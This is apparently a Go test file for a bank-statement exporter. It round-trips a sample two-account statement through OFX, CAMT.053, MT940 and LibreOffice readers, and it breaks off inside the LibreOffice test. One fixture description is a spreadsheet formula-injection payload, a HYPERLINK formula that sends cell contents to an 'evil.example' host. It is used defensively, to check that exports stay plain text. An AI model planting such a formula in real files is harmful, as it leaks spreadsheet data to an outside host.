package export

// Round trips through real consumers: each statement format is written
// from a generated statement and read back by software that did not write
// it (ofxparse, xmllint with the ISO 20022 schema, a SWIFT-rule MT940
// reader, LibreOffice), and what it reads must equal the JSON download of
// the same statement. The tools are installed by `make test`; a missing
// tool fails the test, it never skips it.

import (
	"bufio"
	"bytes"
	"context"
	"encoding/json"
	"encoding/xml"
	"fmt"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"time"

	"passbook/extract/ledger"

	"github.com/shopspring/decimal"
	"github.com/xuri/excelize/v2"
	"golang.org/x/text/encoding/charmap"
)

// Accounts of the round-trip statement.
const (
	ibanAccount   = "DE89 3704 0044 0532 0130 00"
	maskedAccount = "****5678"
)

// longDescription is 200 characters with ":" and "-" where MT940's :86:
// lines would otherwise begin, and a "&" past OFX NAME's 32 characters.
var longDescription = strings.Repeat("A", 57) + "::--" + strings.Repeat("B", 60) + "-:" + strings.Repeat("C", 20) + " & <D> " + strings.Repeat("E", 50)

// roundTrip is a document with two accounts: one in euros named by an
// IBAN, one in pounds, masked, overdrawn (negative balances), with two
// identical rows, and descriptions full of characters that XML, SGML and
// SWIFT escape differently.
func roundTrip() *ledger.Result {
	eur := func(date, desc, in, out, bal string, warn ...string) ledger.Transaction {
		t := ledger.Transaction{Date: day(date), Description: desc, Balance: *dec(bal), Account: ibanAccount}
		for _, w := range warn {
			t.Warnings = append(t.Warnings, ledger.Warning{Kind: ledger.WarnNote, Message: w})
		}
		if in != "" {
			t.AmountIn = dec(in)
		} else {
			t.AmountOut = dec(out)
		}
		return t
	}
	gbp := func(date, desc, in, out, bal string) ledger.Transaction {
		t := eur(date, desc, in, out, bal)
		t.Account = maskedAccount
		return t
	}
	return &ledger.Result{
		PageCount: 3,
		Transactions: []ledger.Transaction{
			eur("2024-03-01", `Café "Le Petit", Müller & Söhne <GmbH>`, "", "12.50", "987.50"),
			gbp("2024-03-01", "OVERDRAFT FEE", "", "25.00", "-125.00"),
			eur("2024-03-02", `=HYPERLINK("http://evil.example/?x="&A1,"click")`, "1234567.89", "", "1235555.39"),
			eur("2024-03-03", "Tom's \"quoted\" <b>bold</b> & more; 100% @home #1 {x} [y] ~z* _u_ =eq!", "", "0.01", "1235555.38", "amount corrected by OCR from 0.07"),
			gbp("2024-03-04", "ZAHLUNG ÄÖÜ äöü ß € 1.234,56 ¥ 中文 😀 Łódź Øre Œuvre", "", "1234.56", "-1359.56"),
			eur("2024-03-05", longDescription, "", "5.00", "1235550.38"),
			gbp("2024-03-06", "first line\nsecond line\tand a tab", "100.00", "", "-1259.56"),
			gbp("2024-03-07", "COFFEE", "", "3.20", "-1262.76"),
			gbp("2024-03-07", "COFFEE", "", "3.20", "-1265.96"),
			eur("2024-03-08", ":86:-starts like a field", "", "0.50", "1235549.88"),
		},
		Statement: ledger.Statement{
			AccountNumber: ibanAccount,
			Currency:      "EUR",
			PeriodStart:   dayPtr("2024-03-01"),
			PeriodEnd:     dayPtr("2024-03-31"),
			Reconciliation: ledger.Reconciliation{
				Status: ledger.ReconcileOK, Message: "every row is proved by a printed balance",
			},
			Accounts: []ledger.Account{
				{Number: ibanAccount, Currency: "EUR", PeriodStart: dayPtr("2024-03-01"), PeriodEnd: dayPtr("2024-03-31"),
					OpeningBalance: dec("1000.00"), ClosingBalance: dec("1235549.88"),
					Reconciliation: ledger.Reconciliation{Status: ledger.ReconcileOK}},
				{Number: maskedAccount, Currency: "GBP", PeriodStart: dayPtr("2024-03-01"), PeriodEnd: dayPtr("2024-03-31"),
					OpeningBalance: dec("-100.00"), ClosingBalance: dec("-1265.96"),
					Reconciliation: ledger.Reconciliation{Status: ledger.ReconcileOK}},
			},
		},
	}
}

// wantAccount is one account of the JSON download, as every statement
// format must carry it.
type wantAccount struct {
	number, currency string
	start, end       string
	opening, closing decimal.Decimal
	txs              []wantTx
}

type wantTx struct {
	date    string
	amount  decimal.Decimal // signed
	desc    string
	balance decimal.Decimal
}

// fromJSON reads the JSON download of res and groups its rows by account.
func fromJSON(t *testing.T, res *ledger.Result) []wantAccount {
	t.Helper()
	var doc struct {
		Transactions []struct {
			Date        string  `json:"date"`
			Description string  `json:"description"`
			AmountIn    *string `json:"amountIn"`
			AmountOut   *string `json:"amountOut"`
			Balance     string  `json:"balance"`
			Account     string  `json:"account"`
		} `json:"transactions"`
		Statement struct {
			Accounts []struct {
				Number   string `json:"account_number"`
				Currency string `json:"currency"`
				Start    string `json:"period_start"`
				End      string `json:"period_end"`
				Opening  string `json:"opening_balance"`
				Closing  string `json:"closing_balance"`
			} `json:"accounts"`
		} `json:"statement"`
	}
	if err := json.Unmarshal(write(t, JSON, res), &doc); err != nil {
		t.Fatal(err)
	}
	var out []wantAccount
	for _, a := range doc.Statement.Accounts {
		w := wantAccount{number: a.Number, currency: a.Currency, start: a.Start, end: a.End,
			opening: decimal.RequireFromString(a.Opening), closing: decimal.RequireFromString(a.Closing)}
		for _, tx := range doc.Transactions {
			if tx.Account != a.Number {
				continue
			}
			var amt decimal.Decimal
			if tx.AmountIn != nil {
				amt = decimal.RequireFromString(*tx.AmountIn)
			} else {
				amt = decimal.RequireFromString(*tx.AmountOut).Neg()
			}
			w.txs = append(w.txs, wantTx{tx.Date, amt, tx.Description, decimal.RequireFromString(tx.Balance)})
		}
		out = append(out, w)
	}
	if len(out) != 2 || len(out[0].txs)+len(out[1].txs) != len(res.Transactions) {
		t.Fatalf("JSON download: %d accounts, rows %+v", len(out), out)
	}
	return out
}

// spaced is text as a one-line field holds it: white space runs one space.
func spaced(s string) string { return strings.Join(strings.Fields(s), " ") }

// writeFile writes format f of res into dir and returns the path.
func writeFile(t *testing.T, dir string, f Format, opts Options, res *ledger.Result) string {
	t.Helper()
	var buf bytes.Buffer
	if err := Write(&buf, f, opts, res); err != nil {
		t.Fatalf("Write(%s): %v", f, err)
	}
	path := filepath.Join(dir, "statement-"+string(f)+string(opts.Profile)+f.Ext())
	if err := os.WriteFile(path, buf.Bytes(), 0o644); err != nil {
		t.Fatal(err)
	}
	return path
}

// tool finds a program the consumer tests need, failing loudly without it.
func tool(t *testing.T, name, pkg string) string {
	t.Helper()
	path, err := exec.LookPath(name)
	if err != nil {
		t.Fatalf("%s not found: install Debian's %s (make test does)", name, pkg)
	}
	return path
}

func run(t *testing.T, timeout time.Duration, name string, args ...string) []byte {
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), timeout)
	defer cancel()
	cmd := exec.CommandContext(ctx, name, args...)
	var stderr bytes.Buffer
	cmd.Stderr = &stderr
	out, err := cmd.Output()
	if err != nil {
		t.Fatalf("%s %s: %v\n%s%s", name, strings.Join(args, " "), err, out, stderr.Bytes())
	}
	return out
}

// python is the interpreter that has ofxparse.
func python(t *testing.T) string {
	t.Helper()
	python := os.Getenv("PASSBOOK_PYTHON")
	if python == "" {
		// Debian's interpreter, where python3-ofxparse installs; a python3
		// earlier in PATH (pyenv, a venv) would not see it.
		python = "/usr/bin/python3"
	}
	if _, err := os.Stat(python); err != nil {
		t.Fatalf("%s not found: install Debian's python3-ofxparse (make test does)", python)
	}
	return python
}

// TestOFXConsumer reads OFX, QFX and QBO with ofxparse (Debian's
// python3-ofxparse).
func TestOFXConsumer(t *testing.T) {
	python := python(t)
	res := roundTrip()
	want := fromJSON(t, res)
	dir := t.TempDir()
	opts := testOptions()
	ofx := writeFile(t, dir, OFX, opts, res)
	qfx := writeFile(t, dir, QFX, opts, res)
	opts.IntuBID = "3000"
	qbo := writeFile(t, dir, QBO, opts, res)
	out := run(t, time.Minute, python, "testdata/ofxread.py", ofx, qfx, qbo)

	type ofxTx struct{ ID, Date, Amount, Type, Payee, Memo string }
	var got map[string]struct {
		IntuBID  *string `json:"intu_bid"`
		Accounts []struct {
			ID, Routing, Curdef, Start, End, Balance string
			BalanceDate                              string `json:"balance_date"`
			Opening                                  *string
			Transactions                             []ofxTx
		}
	}
	if err := json.Unmarshal(out, &got); err != nil {
		t.Fatalf("%v\n%s", err, out)
	}
	ids := map[string]bool{}
	for _, path := range []string{ofx, qfx, qbo} {
		name := filepath.Ext(path)
		g := got[path]
		if bid := g.IntuBID; (path == qbo) != (bid != nil && *bid == "3000") {
			t.Errorf("%s: INTU.BID = %v", name, bid)
		}
		if len(g.Accounts) != len(want) {
			t.Fatalf("%s: %d accounts, want %d", name, len(g.Accounts), len(want))
		}
		for i, w := range want {
			a := g.Accounts[i]
			wantID := strings.ReplaceAll(w.number, " ", "")
			if a.ID != wantID || a.Curdef != w.currency || a.Start != w.start || a.End != w.end || a.BalanceDate != w.end {
				t.Errorf("%s account %d = %s %s %s..%s (%s), want %s %s %s..%s", name, i, a.ID, a.Curdef, a.Start, a.End, a.BalanceDate, wantID, w.currency, w.start, w.end)
			}
			if !decimal.RequireFromString(a.Balance).Equal(w.closing) {
				t.Errorf("%s account %d: ledger balance %s, want %s", name, i, a.Balance, w.closing)
			}
			if a.Opening == nil || !decimal.RequireFromString(*a.Opening).Equal(w.opening) {
				t.Errorf("%s account %d: opening balance %v, want %s", name, i, a.Opening, w.opening)
			}
			if len(a.Transactions) != len(w.txs) {
				t.Fatalf("%s account %d: %d transactions, want %d", name, i, len(a.Transactions), len(w.txs))
			}
			sum := decimal.Zero
			for j, wt := range w.txs {
				gt := a.Transactions[j]
				desc := gt.Payee
				if gt.Memo != "" {
					desc = gt.Memo
				}
				wantDesc := spaced(wt.desc)
				if path != ofx {
					wantDesc = windows1252(wantDesc)
				}
				typ := "debit"
				if wt.amount.Sign() > 0 {
					typ = "credit"
				}
				if gt.Date != wt.date || !decimal.RequireFromString(gt.Amount).Equal(wt.amount) || gt.Type != typ || desc != wantDesc {
					t.Errorf("%s account %d row %d = %s %s %s %q, want %s %s %s %q", name, i, j, gt.Date, gt.Amount, gt.Type, desc, wt.date, wt.amount, typ, wantDesc)
				}
				if len([]rune(gt.Payee)) > 32 {
					t.Errorf("%s: NAME %q longer than 32 characters", name, gt.Payee)
				}
				if path == ofx {
					if ids[gt.ID] {
						t.Errorf("FITID %s given twice", gt.ID)
					}
					ids[gt.ID] = true
				} else if !ids[gt.ID] {
					t.Errorf("%s row %d: FITID %s differs from the OFX's", name, j, gt.ID)
				}
				sum = sum.Add(decimal.RequireFromString(gt.Amount))
			}
			if a.Opening != nil && !decimal.RequireFromString(*a.Opening).Add(sum).Equal(w.closing) {
				t.Errorf("%s account %d: opening %s + rows %s != closing %s", name, i, *a.Opening, sum, w.closing)
			}
		}
	}
}

// windows1252 is s with every character Windows-1252 lacks as "?".
func windows1252(s string) string {
	var b strings.Builder
	for _, r := range s {
		if _, ok := charmap.Windows1252.EncodeRune(r); ok {
			b.WriteRune(r)
		} else {
			b.WriteByte('?')
		}
	}
	return b.String()
}

// TestFITIDStable checks that ids depend on the rows only: a second
// download, at another time, of the same statement gives the same ids,
// and two identical rows get two ids.
func TestFITIDStable(t *testing.T) {
	ids := func(res *ledger.Result) []string {
		var out []string
		for _, b := range blocks(res) {
			for _, r := range b.rows {
				out = append(out, r.fitid)
			}
		}
		return out
	}
	a, b := ids(roundTrip()), ids(roundTrip())
	if strings.Join(a, ",") != strings.Join(b, ",") {
		t.Errorf("ids differ between downloads:\n%v\n%v", a, b)
	}
	seen := map[string]bool{}
	for _, id := range a {
		if seen[id] || !regexp.MustCompile(`^[0-9A-F]{16}$`).MatchString(id) {
			t.Errorf("id %q repeated or malformed in %v", id, a)
		}
		seen[id] = true
	}
	// A row added at the end leaves the earlier rows' ids alone.
	more := roundTrip()
	more.Transactions = append(more.Transactions, more.Transactions[len(more.Transactions)-1])
	c := ids(more)
	for _, id := range a {
		if !contains(c, id) {
			t.Errorf("id %s lost when a row was added", id)
		}
	}
	var o1, o2 bytes.Buffer
	opts := testOptions()
	if err := Write(&o1, OFX, opts, roundTrip()); err != nil {
		t.Fatal(err)
	}
	opts.Created = opts.Created.Add(48 * time.Hour)
	if err := Write(&o2, OFX, opts, roundTrip()); err != nil {
		t.Fatal(err)
	}
	fitids := regexp.MustCompile(`<FITID>[^<]*`)
	if x, y := fitids.FindAll(o1.Bytes(), -1), fitids.FindAll(o2.Bytes(), -1); len(x) != 10 || !bytes.Equal(bytes.Join(x, nil), bytes.Join(y, nil)) {
		t.Errorf("FITIDs change with the download time: %s / %s", x, y)
	}
}

func contains(list []string, s string) bool {
	for _, v := range list {
		if v == s {
			return true
		}
	}
	return false
}

// camtDocument is what the CAMT.053 test reads, with encoding/xml.
type camtDocument struct {
	Stmts []camtStmt `xml:"BkToCstmrStmt>Stmt"`
}

type camtStmt struct {
	ID   string `xml:"Id"`
	FrTo struct {
		Fr string `xml:"FrDtTm"`
		To string `xml:"ToDtTm"`
	} `xml:"FrToDt"`
	Acct struct {
		IBAN string `xml:"Id>IBAN"`
		Othr string `xml:"Id>Othr>Id"`
		Ccy  string `xml:"Ccy"`
	} `xml:"Acct"`
	Bals []struct {
		Code string  `xml:"Tp>CdOrPrtry>Cd"`
		Amt  camtAmt `xml:"Amt"`
		Ind  string  `xml:"CdtDbtInd"`
		Dt   string  `xml:"Dt>Dt"`
	} `xml:"Bal"`
	Entries []struct {
		Ref   string   `xml:"AcctSvcrRef"`
		Amt   camtAmt  `xml:"Amt"`
		Ind   string   `xml:"CdtDbtInd"`
		Date  string   `xml:"BookgDt>Dt"`
		Ustrd []string `xml:"NtryDtls>TxDtls>RmtInf>Ustrd"`
		Info  string   `xml:"AddtlNtryInf"`
	} `xml:"Ntry"`
}

type camtAmt struct {
	Ccy   string `xml:"Ccy,attr"`
	Value string `xml:",chardata"`
}

// camtSigned is an amount with its credit/debit indicator as a signed decimal.
func camtSigned(t *testing.T, a camtAmt, ind string) decimal.Decimal {
	t.Helper()
	d := decimal.RequireFromString(a.Value)
	switch ind {
	case "CRDT":
		return d
	case "DBIT":
		return d.Neg()
	}
	t.Fatalf("CdtDbtInd %q", ind)
	return d
}

// TestCAMTConsumer validates the CAMT.053 against the ISO 20022 schema
// with xmllint, then reads it back with encoding/xml.
func TestCAMTConsumer(t *testing.T) {
	xmllint := tool(t, "xmllint", "libxml2-utils")
	res := roundTrip()
	want := fromJSON(t, res)
	dir := t.TempDir()
	path := writeFile(t, dir, CAMT053, testOptions(), res)
	// A statement with nothing known validates too.
	bare := writeFile(t, t.TempDir(), CAMT053, Options{FileID: "x", Created: time.Date(2024, 1, 1, 0, 0, 0, 0, time.UTC)}, empty())
	run(t, time.Minute, xmllint, "--noout", "--schema", "testdata/camt.053.001.02.xsd", path, bare)

	raw, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	var doc camtDocument
	if err := xml.Unmarshal(raw, &doc); err != nil {
		t.Fatal(err)
	}
	if len(doc.Stmts) != len(want) {
		t.Fatalf("%d Stmt, want %d", len(doc.Stmts), len(want))
	}
	for i, w := range want {
		s := doc.Stmts[i]
		acct := s.Acct.IBAN
		if acct == "" {
			acct = s.Acct.Othr
		}
		if wantAcct := w.number; i == 0 {
			if acct != strings.ReplaceAll(wantAcct, " ", "") || s.Acct.IBAN == "" {
				t.Errorf("Stmt %d account = %q (IBAN %q), want the IBAN %q", i, acct, s.Acct.IBAN, wantAcct)
			}
		} else if acct != wantAcct {
			t.Errorf("Stmt %d account = %q, want %q", i, acct, wantAcct)
		}
		if s.Acct.Ccy != w.currency || s.FrTo.Fr != w.start+"T00:00:00" || s.FrTo.To != w.end+"T23:59:59" {
			t.Errorf("Stmt %d = %s %s..%s, want %s %s..%s", i, s.Acct.Ccy, s.FrTo.Fr, s.FrTo.To, w.currency, w.start, w.end)
		}
		bals := map[string]decimal.Decimal{}
		for _, b := range s.Bals {
			if b.Amt.Ccy != w.currency {
				t.Errorf("Stmt %d balance %s in %s", i, b.Code, b.Amt.Ccy)
			}
			bals[b.Code+" "+b.Dt] = camtSigned(t, b.Amt, b.Ind)
		}
		if got, ok := bals["OPBD "+w.start]; !ok || !got.Equal(w.opening) {
			t.Errorf("Stmt %d opening = %v (%v), want %s on %s", i, got, bals, w.opening, w.start)
		}
		if got, ok := bals["CLBD "+w.end]; !ok || !got.Equal(w.closing) {
			t.Errorf("Stmt %d closing = %v (%v), want %s on %s", i, got, bals, w.closing, w.end)
		}
		if len(s.Entries) != len(w.txs) {
			t.Fatalf("Stmt %d: %d entries, want %d", i, len(s.Entries), len(w.txs))
		}
		for j, wt := range w.txs {
			e := s.Entries[j]
			amt := camtSigned(t, e.Amt, e.Ind)
			desc := strings.Join(e.Ustrd, "")
			if e.Date != wt.date || !amt.Equal(wt.amount) || desc != spaced(wt.desc) || e.Amt.Ccy != w.currency || e.Ref == "" {
				t.Errorf("Stmt %d entry %d = %s %s %s %q ref %q, want %s %s %q", i, j, e.Date, amt, e.Amt.Ccy, desc, e.Ref, wt.date, wt.amount, spaced(wt.desc))
			}
			if !strings.HasPrefix(spaced(wt.desc), e.Info) || e.Info == "" {
				t.Errorf("Stmt %d entry %d AddtlNtryInf = %q", i, j, e.Info)
			}
		}
	}
}

// mtStatement is one MT940 message as the test's reader sees it.
type mtStatement struct {
	ref, account, number string
	opening, closing     mtBalance
	lines                []mtLine
}

type mtBalance struct {
	date     string // YYYY-MM-DD
	currency string
	amount   decimal.Decimal // signed
}

type mtLine struct {
	valueDate, entryDate string // YYMMDD, MMDD
	amount               decimal.Decimal
	txType               string
	ownerRef, bankRef    string
	info                 string
}

var (
	mtTag      = regexp.MustCompile(`^:([0-9]{2}[A-Z]?):(.*)$`)
	mtBal      = regexp.MustCompile(`^([CD])([0-9]{6})([A-Z]{3})([0-9]{1,12},[0-9]{0,2})$`)
	mtLine61   = regexp.MustCompile(`^([0-9]{6})([0-9]{4})?(RC|RD|C|D)([A-Z])?([0-9]{1,12},[0-9]{0,2})([NSF][A-Z0-9]{3})(.*?)(?://(.{1,16}))?$`)
	mtXCharset = regexp.MustCompile(`^[a-zA-Z0-9/\-?:().,'+ ]*$`)
)

// readMT940 reads MT940 messages by the SWIFT field rules: a field starts
// with :TAG: at the start of a line and runs to the next one, its later
// lines joined on; a message ends with a line "-". Text must be in SWIFT's
// X character set, lines at most 65 characters. Balances are
// [C|D]YYMMDD CCY amount with a decimal comma; a :61: statement line is
// value date, optional entry date, C/D/RC/RD mark, optional funds code,
// amount, transaction type, owner's reference and "//" bank reference.
func readMT940(text string) ([]mtStatement, error) {
	var out []mtStatement
	var cur *mtStatement
	var tag string
	var val []string
	flush := func() error {
		if tag == "" {
			return nil
		}
		v := strings.Join(val, "")
		switch tag {
		case "20":
			cur.ref = v
		case "25":
			cur.account = v
		case "28C":
			cur.number = v
		case "60F", "62F":
			b, err := mtBalanceOf(v)
			if err != nil {
				return fmt.Errorf(":%s: %w", tag, err)
			}
			if tag == "60F" {
				cur.opening = b
			} else {
				cur.closing = b
			}
		case "61":
			m := mtLine61.FindStringSubmatch(val[0])
			if m == nil {
				return fmt.Errorf(":61: %q does not follow 6!n[4!n]2a[1!a]15d1!a3!c16x[//16x]", val[0])
			}
			amt := mustComma(m[5])
			if strings.HasSuffix(m[3], "D") {
				amt = amt.Neg()
			}
			cur.lines = append(cur.lines, mtLine{valueDate: m[1], entryDate: m[2], amount: amt, txType: m[6], ownerRef: m[7], bankRef: m[8]})
		case "86":
			if len(cur.lines) == 0 {
				return fmt.Errorf(":86: before any :61:")
			}
			cur.lines[len(cur.lines)-1].info += v
		}
		tag, val = "", nil
		return nil
	}
	sc := bufio.NewScanner(strings.NewReader(text))
	for sc.Scan() {
		line := strings.TrimSuffix(sc.Text(), "\r")
		if len(line) > 65 {
			return nil, fmt.Errorf("line longer than 65 characters: %q", line)
		}
		if !mtXCharset.MatchString(line) {
			return nil, fmt.Errorf("line outside SWIFT's X character set: %q", line)
		}
		if line == "-" {
			if err := flush(); err != nil {
				return nil, err
			}
			cur = nil
			continue
		}
		if m := mtTag.FindStringSubmatch(line); m != nil {
			if err := flush(); err != nil {
				return nil, err
			}
			if cur == nil {
				if m[1] != "20" {
					return nil, fmt.Errorf("message starts with :%s:, want :20:", m[1])
				}
				out = append(out, mtStatement{})
				cur = &out[len(out)-1]
			}
			tag, val = m[1], []string{m[2]}
			continue
		}
		if tag == "" || line == "" {
			if line == "" {
				continue
			}
			return nil, fmt.Errorf("text outside a field: %q", line)
		}
		val = append(val, line)
	}
	if cur != nil {
		return nil, fmt.Errorf("message not ended with -")
	}
	return out, sc.Err()
}

func mtBalanceOf(v string) (mtBalance, error) {
	m := mtBal.FindStringSubmatch(v)
	if m == nil {
		return mtBalance{}, fmt.Errorf("%q is not [C|D]YYMMDD CCY amount", v)
	}
	d, err := time.Parse("060102", m[2])
	if err != nil {
		return mtBalance{}, err
	}
	amt := mustComma(m[4])
	if m[1] == "D" {
		amt = amt.Neg()
	}
	return mtBalance{date: d.Format(dateLayout), currency: m[3], amount: amt}, nil
}

// mustComma reads SWIFT's amount: digits and a decimal comma.
func mustComma(s string) decimal.Decimal {
	return decimal.RequireFromString(strings.Replace(s, ",", ".", 1))
}

// TestMT940ReaderOnPublishedExample checks the test's reader on Danske
// Bank's published example before it is trusted with Passbook's output.
func TestMT940ReaderOnPublishedExample(t *testing.T) {
	raw, err := os.ReadFile("testdata/mt940-example.sta")
	if err != nil {
		t.Fatal(err)
	}
	got, err := readMT940(string(raw))
	if err != nil {
		t.Fatal(err)
	}
	if len(got) != 1 {
		t.Fatalf("%d statements, want 1", len(got))
	}
	s := got[0]
	if s.ref != "3996-11-11111111" || s.account != "DABADKKK/111111-11111111" || s.number != "00001/001" {
		t.Errorf("header = %q %q %q", s.ref, s.account, s.number)
	}
	if s.opening.date != "2009-09-24" || s.opening.currency != "EUR" || !s.opening.amount.Equal(decimal.RequireFromString("54484.04")) {
		t.Errorf("opening = %+v", s.opening)
	}
	if s.closing.date != "2009-09-30" || !s.closing.amount.Equal(decimal.RequireFromString("53126.94")) {
		t.Errorf("closing = %+v", s.closing)
	}
	want := []mtLine{
		{valueDate: "090925", entryDate: "0925", amount: decimal.RequireFromString("-583.92"), txType: "NMSC", ownerRef: "1110030403010139", bankRef: "1234",
			info: "11100304030101391234Beneficiary nameSomething else"},
		{valueDate: "091001", entryDate: "0930", amount: decimal.RequireFromString("-62.60"), txType: "NCHG", ownerRef: "customer id", bankRef: "bank id",
			info: "Fees according to advice"},
	}
	if len(s.lines) != len(want) {
		t.Fatalf("%d lines, want %d", len(s.lines), len(want))
	}
	for i, w := range want {
		g := s.lines[i]
		if g.valueDate != w.valueDate || g.entryDate != w.entryDate || !g.amount.Equal(w.amount) || g.txType != w.txType || g.ownerRef != w.ownerRef || g.bankRef != w.bankRef || g.info != w.info {
			t.Errorf("line %d = %+v, want %+v", i, g, w)
		}
	}
	// And it refuses what breaks the rules.
	for _, bad := range []string{
		":20:X\r\n:25:A&B\r\n-\r\n",
		":20:X\r\n:86:" + strings.Repeat("A", 62) + "\r\n-\r\n",
		":25:X\r\n-\r\n",
		":20:X\r\n:60F:C240101EUR1.00\r\n-\r\n",
		":20:X\r\n:61:240101C1,00\r\n-\r\n",
		":20:X\r\n",
	} {
		if _, err := readMT940(bad); err == nil {
			t.Errorf("readMT940(%q) = nil error", bad)
		}
	}
}

// mt940Descriptions are the round-trip descriptions in SWIFT's character
// set, as the MT940 must carry them (:86: holds 6 lines of 65 characters
// less the tag: 386).
var mt940Descriptions = map[string]string{
	`Café "Le Petit", Müller & Söhne <GmbH>`:                                  `Cafe 'Le Petit', Muller + Sohne (GmbH)`,
	`=HYPERLINK("http://evil.example/?x="&A1,"click")`:                        `-HYPERLINK('http://evil.example/?x-'+A1,'click')`,
	"Tom's \"quoted\" <b>bold</b> & more; 100% @home #1 {x} [y] ~z* _u_ =eq!": "Tom's 'quoted' (b)bold(/b) + more, 100PCT (AT)home NO.1 (x) (y) .zX -u- -eq.",
	"ZAHLUNG ÄÖÜ äöü ß € 1.234,56 ¥ 中文 😀 Łódź Øre Œuvre":                      "ZAHLUNG AOU aou ss EUR 1.234,56 . .. . Lodz Ore OEuvre",
	longDescription:                      strings.NewReplacer("&", "+", "<", "(", ">", ")").Replace(longDescription),
	"first line\nsecond line\tand a tab": "first line second line and a tab",
	"OVERDRAFT FEE":                      "OVERDRAFT FEE",
	"COFFEE":                             "COFFEE",
	":86:-starts like a field":           ":86:-starts like a field",
}

// TestMT940Consumer reads the MT940 with the SWIFT-rule reader.
func TestMT940Consumer(t *testing.T) {
	res := roundTrip()
	want := fromJSON(t, res)
	var buf bytes.Buffer
	if err := Write(&buf, MT940, testOptions(), res); err != nil {
		t.Fatal(err)
	}
	if !bytes.HasSuffix(buf.Bytes(), []byte("\r\n-\r\n")) || bytes.Count(buf.Bytes(), []byte("\n")) != bytes.Count(buf.Bytes(), []byte("\r\n")) {
		t.Errorf("want CRLF lines ending with -:\n%q", buf.Bytes())
	}
	got, err := readMT940(buf.String())
	if err != nil {
		t.Fatalf("%v\n%s", err, buf.Bytes())
	}
	if len(got) != len(want) {
		t.Fatalf("%d statements, want %d", len(got), len(want))
	}
	bankRefs := map[string]bool{}
	for i, w := range want {
		s := got[i]
		if i == 1 && s.account != "XXXX5678" || i == 0 && s.account != w.number {
			t.Errorf("statement %d account = %q (want %q in SWIFT's characters)", i, s.account, w.number)
		}
		if s.number != fmt.Sprintf("%d/1", i+1) {
			t.Errorf("statement %d :28C: = %q", i, s.number)
		}
		if s.opening != (mtBalance{w.start, w.currency, s.opening.amount}) || !s.opening.amount.Equal(w.opening) {
			t.Errorf("statement %d opening = %+v, want %s %s %s", i, s.opening, w.start, w.currency, w.opening)
		}
		if s.closing != (mtBalance{w.end, w.currency, s.closing.amount}) || !s.closing.amount.Equal(w.closing) {
			t.Errorf("statement %d closing = %+v, want %s %s %s", i, s.closing, w.end, w.currency, w.closing)
		}
		if len(s.lines) != len(w.txs) {
			t.Fatalf("statement %d: %d lines, want %d", i, len(s.lines), len(w.txs))
		}
		sum := s.opening.amount
		for j, wt := range w.txs {
			g := s.lines[j]
			date, _ := time.Parse(dateLayout, wt.date)
			wantInfo, ok := mt940Descriptions[wt.desc]
			if !ok {
				t.Fatalf("no MT940 text for %q", wt.desc)
			}
			if len(wantInfo) > 386 {
				wantInfo = wantInfo[:386]
			}
			if g.valueDate != date.Format("060102") || g.entryDate != date.Format("0102") || !g.amount.Equal(wt.amount) || g.info != wantInfo || g.txType != "NMSC" {
				t.Errorf("statement %d line %d = %+v, want %s %s %q", i, j, g, wt.date, wt.amount, wantInfo)
			}
			if bankRefs[g.bankRef] || len(g.bankRef) != 16 {
				t.Errorf("bank reference %q repeated or not 16 characters", g.bankRef)
			}
			bankRefs[g.bankRef] = true
			sum = sum.Add(g.amount)
		}
		if !sum.Equal(s.closing.amount) {
			t.Errorf("statement %d: opening + lines = %s, closing %s", i, sum, s.closing.amount)
		}
	}
}

// TestSWIFTLines checks the :86: wrapping on its own: no line after the
// first begins with ":" or "-", the pieces join to the text, and it stops
// at six lines.
func TestSWIFTLines(t *testing.T) {
	for _, s := range []string{"", "short", longDescription, strings.Repeat("ab:-", 100), strings.Repeat("x", 61) + "-" + strings.Repeat("y", 70),
		strings.Repeat("-", 61) + ":61:", strings.Repeat(":", 200)} {
		lines := swiftLines(s)
		joined := strings.Join(lines, "")
		// Only a ":" or "-" that would start a line may become ".".
		same := len(joined) <= len(s)
		for i := 0; same && i < len(joined); i++ {
			same = joined[i] == s[i] || joined[i] == '.' && (s[i] == ':' || s[i] == '-')
		}
		if len(lines) > 6 || !same || (len(lines) < 6 && len(joined) != len(s)) {
			t.Errorf("swiftLines(%q) = %q", s, lines)
		}
		for i, l := range lines {
			max := 65
			if i == 0 {
				max = 61
			}
			if len(l) > max || (i > 0 && (l[0] == ':' || l[0] == '-')) {
				t.Errorf("swiftLines(%q) line %d = %q", s, i, l)
			}
		}
	}
}

// TestLibreOffice opens the excel-eu CSV and the XLSX with LibreOffice
// headless, as a German user's spreadsheet would, saves them again as XLSX
// and checks what LibreOffice made of each cell: dates and amounts are
// numbers, descriptions are text (never formulas), values equal the JSON.
// One soffice call per input kind: the CSV needs its import options.
func TestLibreOffice(t *testing.T) {
	soffice := tool(t, "soffice", "libreoffice-calc-nogui")
	res := roundTrip()
	want := fromJSON(t, res)
	dir := t.TempDir()
	opts := testOptions()
	opts.Profile = ExcelEU
	csvPath := writeFile(t, dir, CSV, opts, res)
	xlsxPath := writeFile(t, dir, XLSX, testOptions(), res)
	profile := "-env:UserInstallation=file://" + filepath.Join(dir, "lo-profile")
	csvOut, xlsxOut := filepath.Join(dir, "from-csv"), filepath.Join(dir, "from-xlsx")
	// CSV import options: ";" separated, '"' quoted, UTF-8 (76), from line
	// 1, standard column types, German (1031) number and date reading.
	run(t, 2*time.Minute, soffice, profile, "--headless", "--norestore", `--infilter=CSV:59,34,76,1,,1031`,
		"--convert-to", "xlsx", "--outdir", csvOut, csvPath)
	run(t, 2*time.Minute, soffice, profile, "--headless", "--norestore", "--convert-to", "xlsx", "--outdir", xlsxOut, xlsxPath)

	// The rows in document order, across accounts.
	type flat struct {
		wantTx
		currency string
	}
	var rows []flat
	next := map[string]int{}
	for _, tx := range res.Transactions {
		for _, a := range want {
			if a.number == tx.Account {
				rows = append(rows, flat{a.txs[next[a.number]], a.currency})
				next[a.number]++
			}
		}
	}

	check := func(name, path string, cols map[string]string) {
		t.Helper()
		f, err := excelize.OpenFile(path)
		if err != nil {
			t.Fatalf("%s: LibreOffice wrote no readable xlsx: %v", name, err)
		}
		defer f.Close()
		sheet := f.GetSheetName(0)
		for i, r := range rows {
			n := i + 2
			cell := func(col string) (excelize.CellType, string, string) {
				ref := fmt.Sprintf("%s%d", col, n)
				typ, _ := f.GetCellType(sheet, ref)
				raw, _ := f.GetCellValue(sheet, ref, excelize.Options{RawCellValue: true})
				formula, _ := f.GetCellFormula(sheet, ref)
